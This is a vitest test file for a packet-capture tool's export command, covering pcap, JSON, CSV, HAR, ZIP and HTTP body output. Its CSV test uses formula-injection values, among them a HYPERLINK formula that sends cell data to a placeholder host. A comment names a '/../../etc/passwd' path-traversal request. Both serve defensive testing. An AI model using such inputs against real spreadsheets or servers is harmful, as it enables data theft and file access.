/** `sevenfold export`: what it writes reads back as the same packets. */
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { runDissect } from '../../src/cli/dissect.ts';
import { runExport } from '../../src/cli/export.ts';
import { csvLine } from '../../src/cli/packet-text.ts';
import type { Dissection } from '../../src/dissect/dissection.ts';
import { dissectPacket } from '../../src/protocols/dissect-packet.ts';
import { spreadsheetText } from '../../src/words/spreadsheet.ts';
import { readAll } from '../golden/table.ts';
import { fixture, printed } from './run.ts';

let folder = '';
beforeEach(() => {
  folder = mkdtempSync(path.join(os.tmpdir(), 'sevenfold-export-'));
});
afterEach(() => rmSync(folder, { recursive: true }));

const bytesOf = async (file: string, filter = ''): Promise<string> =>
  (
    await printed(() =>
      runDissect({ file, filter, type: 'fields', field: ['frame.time_epoch', 'frame.len', 'eth', 'tcp.payload'], option: [] }),
    )
  ).out;

for (const ending of ['pcapng', 'pcap']) {
  it(`writes the packets that match to a ${ending} file`, async () => {
    const output = path.join(folder, `out.${ending}`);
    const filter = 'tcp.stream == 1';
    expect((await printed(() => runExport({ file: fixture('http.pcap'), output, filter }))).status).toBe(0);
    const before = await bytesOf(fixture('http.pcap'), filter);
    expect(before.split('\n').length).toBeGreaterThan(5);
    expect(await bytesOf(output)).toBe(before);
  });
}

it('writes JSON that parses, one object per packet', async () => {
  const output = path.join(folder, 'out.json');
  await printed(() => runExport({ file: fixture('dns.pcap'), output, filter: 'dns.flags.response == 1' }));
  const packets = JSON.parse(readFileSync(output, 'utf8')) as { _source: { layers: Record<string, unknown> } }[];
  expect(packets.length).toBeGreaterThan(3);
  for (const packet of packets) expect(packet._source.layers).toHaveProperty('dns');
});

it('writes JSON that parses also when nothing matches', async () => {
  const output = path.join(folder, 'out.json');
  await printed(() => runExport({ file: fixture('dns.pcap'), output, filter: 'frame.number == 0' }));
  expect(JSON.parse(readFileSync(output, 'utf8'))).toEqual([]);
});

it('writes the columns of the list as CSV, quotes doubled', async () => {
  const output = path.join(folder, 'out.csv');
  await printed(() => runExport({ file: fixture('dns.pcap'), output, filter: '' }));
  const lines = readFileSync(output, 'utf8').trim().split('\n');
  expect(lines[0]).toBe('"No.","Time","Source","Destination","Protocol","Length","Info"');
  expect(lines).toHaveLength(27);
  expect(lines[1]).toMatch(/^"1","0\.000000","[^"]+","[^"]+","[A-Z0-9v]+","\d+",".+"$/);
});

it('writes no text into CSV that a spreadsheet would run, and numbers as they are', async () => {
  const read = await readAll(fixture('dns.pcap'));
  if (read === null) throw new Error('the fixture cannot be read');
  const { capture, reader } = read;
  const d = dissectPacket(capture, 1);
  capture.packets.chunkOf(1).sec[1] = (capture.packets.chunkOf(0).sec[0] as number) - 1;
  for (const info of ['=HYPERLINK("http://x/?"&A1)', '+1', '-1+1', '@SUM(A1)', '\uff1d1']) {
    const line = csvLine(capture, Object.create(d, { columns: { value: { ...d.columns, info } } }) as Dissection);
    expect(line).toMatch(/^"2","-\d\.\d{6,}","[\da-f.:]+","[\da-f.:]+","DNS","\d+","'/);
    expect(line).toContain(`"'${info.replaceAll('"', '""')}"\n`);
  }
  await reader.close();
  expect(['Seq=1', ' =1', '', "'=1"].map(spreadsheetText)).toEqual(['Seq=1', ' =1', '', "'=1"]);
});

it('refuses a name whose format it does not know, and the capture itself', async () => {
  const file = fixture('dns.pcap');
  const unknown = await printed(() => runExport({ file, output: path.join(folder, 'out.docx'), filter: '' }));
  expect(unknown.status).toBe(2);
  expect(unknown.complaint).toContain('.pcapng');
  const before = readFileSync(file);
  const byAnotherWay = path.join(folder, 'way');
  symlinkSync(path.dirname(file), byAnotherWay);
  for (const output of [file, path.join(byAnotherWay, 'dns.pcap')])
    expect((await printed(() => runExport({ file, output, filter: '' }))).status).toBe(2);
  expect(readFileSync(file).equals(before)).toBe(true);
});

it('replaces a file that is there, once the new one is whole', async () => {
  for (const ending of ['pcapng', 'csv', 'har', 'zip']) {
    const output = path.join(folder, `out.${ending}`);
    writeFileSync(output, 'what was there before');
    expect((await printed(() => runExport({ file: fixture('http.pcap'), output, filter: '' }))).status).toBe(0);
    expect(readFileSync(output, 'latin1')).not.toContain('what was there before');
  }
  expect(readdirSync(folder)).toHaveLength(4);
});

it('leaves nothing behind where it cannot write', async () => {
  const output = path.join(folder, 'nowhere', 'out.csv');
  const { status, complaint } = await printed(() => runExport({ file: fixture('dns.pcap'), output, filter: '' }));
  expect(status).toBe(1);
  expect(complaint).toContain('out.csv');
  expect(existsSync(output)).toBe(false);
  expect(readdirSync(folder)).toEqual([]);
});

describe('HTTP', () => {
  it('bodies are written to a new folder, safely named, with a list of what they are', async () => {
    const output = path.join(folder, 'bodies');
    const { status, complaint } = await printed(() => runExport({ file: fixture('web/session.pcap'), output, filter: '', objects: true }));
    expect([status, complaint]).toEqual([0, `30 bodies written to ${output}\n`]);
    const files = readdirSync(output, { recursive: true, withFileTypes: true }).filter((each) => each.isFile());
    expect(files.length).toBe(31);
    // The request was for /../../etc/passwd.
    expect(readFileSync(path.join(output, 'shop.example_8094', 'passwd.html'), 'utf8')).toContain('400 Bad Request');
    expect(readFileSync(path.join(output, 'shop.example_8095', 'form.request.txt'), 'utf8')).toBe(
      'name=Ada+Lovelace&city=S%C3%A3o+Paulo&empty=',
    );
    expect(JSON.parse(readFileSync(path.join(output, 'shop.example_8095', 'br.json'), 'utf8'))).toMatchObject({ total: 1.5 });
    const [head, ...lines] = readFileSync(path.join(output, 'objects.tsv'), 'utf8').trimEnd().split('\n');
    expect(head?.split('\t')).toContain('url');
    expect(lines.length).toBe(30);
    for (const line of lines) expect(existsSync(path.join(output, line.split('\t')[0] ?? ''))).toBe(true);
  });

  it('bodies are written to no folder that has something in it', async () => {
    const options = { file: fixture('http.pcap'), output: folder, filter: '', objects: true };
    writeFileSync(path.join(folder, 'mine.txt'), 'mine');
    const { status, complaint } = await printed(() => runExport(options));
    expect(status).toBe(1);
    expect(complaint).toContain('not empty');
    expect(readdirSync(folder)).toEqual(['mine.txt']);
  });

  it('bodies of the filter are written to a ZIP file, and exchanges to a HAR file', async () => {
    const zip = path.join(folder, 'out.zip');
    const har = path.join(folder, 'out.har');
    const filter = 'http.response.code == 404';
    for (const output of [zip, har])
      expect((await printed(() => runExport({ file: fixture('http.pcap'), output, filter }))).status).toBe(0);
    const bytes = readFileSync(zip);
    expect(bytes.readUInt32LE(0)).toBe(0x04034b50);
    expect(bytes.readUInt16LE(bytes.length - 12)).toBe(2);
    expect(bytes.includes('192.0.2.2/missing.html')).toBe(true);
    expect(
      JSON.parse(readFileSync(har, 'utf8')).log.entries.map((entry: { response: { status: number } }) => entry.response.status),
    ).toEqual([404]);
  });
});
